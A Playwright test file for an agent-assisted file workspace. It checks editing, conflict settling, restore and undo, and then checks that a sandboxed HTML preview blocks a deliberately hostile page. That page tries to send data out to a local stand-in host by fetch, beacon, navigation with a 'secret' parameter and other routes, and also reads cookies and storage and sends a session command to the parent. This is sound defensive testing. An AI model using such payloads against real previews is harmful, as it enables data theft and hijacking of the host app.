import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { hostileTexts } from "../src/page/ui/parts/markdown/hostile-texts.fake.ts";
import { expect, test } from "./fixtures.ts";
import { counted } from "./soak.ts";

test("what a person writes outlives a reload and the agent's change, and is settled and saved", async ({ app, log }) => {
  const { page, chat, inspector } = app;
  const path = "/plants/ferns.md";
  await chat.beginSession();
  await inspector.filesTab.click();
  await inspector.file("ferns.md").click();
  const text = page.getByRole("textbox", { name: `Text of ${path}` });
  const save = page.getByRole("button", { name: "Save", exact: true });
  await text.press("Control+a");
  await page.keyboard.insertText("Ferns, in my words\n");
  await expect(save).toBeEnabled();

  await page.reload();
  await expect(text).toContainText("Ferns, in my words");
  await chat.say(`Change "rain water" to "soft water" in ${path}`);
  await chat.untilIdle();
  const meanwhile = page.getByRole("alert").filter({ hasText: "The agent changed this file since you began" });
  await meanwhile.getByRole("button", { name: "Settle it" }).press("Enter");
  const place = page.getByRole("region", { name: "Place 1, changed by both" });
  await expect(place).toContainText("soft water");
  await expect(page.getByRole("button", { name: "Go on with this" })).toBeDisabled();
  await place.getByRole("radio", { name: "Yours" }).press("Enter");
  await page.getByRole("button", { name: "Go on with this" }).press("Enter");
  await text.press("Control+s");
  await expect(save).toBeDisabled();
  await expect(page.getByRole("button", { name: /^Changed by you/ })).toBeVisible();
  const last = (await log()).findLast(({ event }) => event.type === "files-changed");
  expect(last?.event.type === "files-changed" && [last.event.by, last.event.effect.files.map((file) => file.path)]).toEqual([
    "person",
    [path],
  ]);

  // The agent's version comes back from its place in the history, and goes again.
  await page.getByRole("button", { name: /^Changed by turn/ }).press("Enter");
  const restore = page.getByRole("button", { name: "Restore this version" });
  await restore.press("Enter");
  await expect(restore).toBeDisabled();
  const restored = page.getByRole("region", { name: "Notices" }).getByText(/is what it was after event/);
  await expect(restored).toBeVisible();
  await page.getByRole("region", { name: "Notices" }).getByRole("button", { name: "Undo" }).press("Enter");
  await expect(restored).toBeHidden();
  await expect(restore).toBeEnabled();

  await inspector.tree.focus();
  await page.keyboard.press("Delete");
  await expect(page.getByRole("list", { name: "What is deleted" })).toContainText(path);
  await page.getByRole("button", { name: "Delete this file" }).press("Enter");
  await expect(inspector.file("ferns.md")).toBeHidden();
  await page.getByRole("region", { name: "Notices" }).getByRole("button", { name: "Undo" }).press("Enter");
  await expect(inspector.file("ferns.md")).toBeVisible();
  await page.getByRole("button", { name: "File", exact: true }).press("Enter");
  await expect(text).toContainText("Ferns, in my words");
});

/** What a page that was let in would try. Each attempt tells what became of it; nothing of it may reach `host`. */
const attackPage = (host: string): string => `<!doctype html><meta http-equiv="refresh" content="1;url=${host}/refresh">
<link rel="stylesheet" href="${host}/style.css"><img src="${host}/image.png"><iframe src="${host}/frame"></iframe>
<form action="${host}/form"><button>Go</button></form><button onclick="location = '${host}/navigated?d=secret'">Navigate</button><pre id="out"></pre><script>
const results = {};
const attempt = async (name, work) => {
  const late = new Promise((resolve, reject) => setTimeout(reject, 1000));
  try { await Promise.race([work(), late]); results[name] = "allowed"; } catch (cause) { results[name] = "refused"; }
};
const loads = (element, address) => new Promise((resolve, reject) => {
  element.onload = resolve; element.onerror = () => reject(new Error("refused")); element.src = address; document.body.append(element);
});
(async () => {
  await attempt("fetch", () => fetch("${host}/fetch"));
  await attempt("own host", () => fetch("./index.html"));
  await attempt("image", () => loads(new Image(), "${host}/image2.png"));
  await attempt("script", () => loads(document.createElement("script"), "${host}/script.js"));
  await attempt("import", () => import("${host}/import.js"));
  await attempt("worker", () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${host}/worker').then(() => postMessage(1))"])));
    worker.onmessage = resolve; worker.onerror = reject;
  }));
  await attempt("socket", () => new Promise((resolve, reject) => { const s = new WebSocket("${host}".replace("http", "ws")); s.onopen = resolve; s.onerror = reject; }));
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location = "${host}/top"; });
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => indexedDB.open("x"));
  await attempt("cookie", () => document.cookie);
  await attempt("popup", () => { if (open("${host}/popup") === null) throw new Error("refused"); });
  await attempt("peer", () => new RTCPeerConnection());
  // These do not say that they were refused.
  navigator.sendBeacon("${host}/beacon");
  document.forms[0].submit();
  alert("untrusted");
  parent.postMessage({ type: "command", command: { type: "create-session" } }, "*");
  document.getElementById("out").textContent = JSON.stringify(results);
})();
</script>`;

test("a previewed page shows what it names in the workspace, and reaches nothing else", async ({ app, troubles }) => {
  const { page, chat, inspector } = app;
  troubles.expect(
    /policy|violat|Refused|sandbox|Ignored call|Blocked|Unsafe attempt|Failed to|X-Frame|autofocus|uncaught|Error|console|preview/i,
  );
  const seen: string[] = [];
  const foreign = createServer((request, response) => {
    seen.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("x");
  });
  await new Promise<void>((resolve) => foreign.listen(0, "127.0.0.1", resolve));
  const host = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  const own: string[] = [];
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await chat.beginSession();
  await inspector.filesTab.click();
  const file = (name: string, text: string) => ({ name, mimeType: "text/plain", buffer: Buffer.from(text) });
  await page
    .getByLabel("Files to bring in")
    .setInputFiles([
      file("good.html", '<link rel="stylesheet" href="good.css"><h1>Ferns</h1><p id="said"></p><script src="/good.js"></script>'),
      file("good.css", "h1 { color: rgb(1, 2, 3) }"),
      file("good.js", 'document.getElementById("said").textContent = "Script ran in " + self.origin;'),
      file("evil.html", attackPage(host)),
    ]);
  const preview = page.getByRole("button", { name: "Preview", exact: true });
  await inspector.file("good.html").click();
  await preview.press("Enter");
  const good = page.frameLocator('iframe[title="Preview of /good.html"]');
  await expect(good.getByText("Script ran in null")).toBeVisible();
  await expect(good.getByRole("heading", { name: "Ferns" })).toHaveCSS("color", "rgb(1, 2, 3)");

  // A request that the policy stops is told of too: it fails with that reason and never leaves.
  page.on("response", (response) => own.push(`answered ${response.url()}`));
  page.on("requestfailed", (request) => own.push(`${request.failure()?.errorText} ${request.url()}`));
  const sessions = await chat.sessions.getByRole("link").count();
  await inspector.file("evil.html").click();
  await preview.press("Enter");
  const evil = page.frameLocator('iframe[title="Preview of /evil.html"]');
  const results = JSON.parse(await evil.locator("#out", { hasText: "{" }).innerText());
  expect(results).toEqual(Object.fromEntries(Object.keys(results).map((name) => [name, "refused"])));
  expect(Object.keys(results).length).toBe(14);
  // Nothing is waited for: a navigation that is refused may never be told to have ended.
  await evil.getByRole("button", { name: "Navigate" }).press("Enter", { noWaitAfter: true });
  await expect.poll(() => troubles.matching(/frame-src/).length).toBeGreaterThan(0);
  await page.evaluate(
    async ({ texts, batch }) => {
      for (let from = 0; from < texts.length; from += batch) {
        const frames = texts.slice(from, from + batch).map((html) => {
          const frame = document.createElement("iframe");
          frame.sandbox.add("allow-scripts");
          frame.src = "./preview.html";
          const shown = new Promise<void>((resolve) => {
            frame.onload = () => {
              frame.contentWindow?.postMessage({ path: "/h/x.html", html, files: [] }, "*");
              frame.onload = null;
              setTimeout(resolve, 60);
            };
          });
          document.body.append(frame);
          return { frame, shown };
        });
        await Promise.all(frames.map(({ shown }) => shown));
        for (const { frame } of frames) frame.remove();
      }
    },
    { texts: hostileTexts.slice(0, counted(100, hostileTexts.length)), batch: 25 },
  );
  expect(seen).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(
    own.filter(
      (told) => !/^(?:csp|origin) |^net::ERR_BLOCKED_BY_CSP |preview\.html$|favicon\.svg$|^net::ERR_ABORTED blob:/.test(told),
    ),
  ).toEqual([]);
  expect(await chat.sessions.getByRole("link").count()).toBe(sessions);
  await expect(page).toHaveTitle(/Vivarium/);
  foreign.close();
});
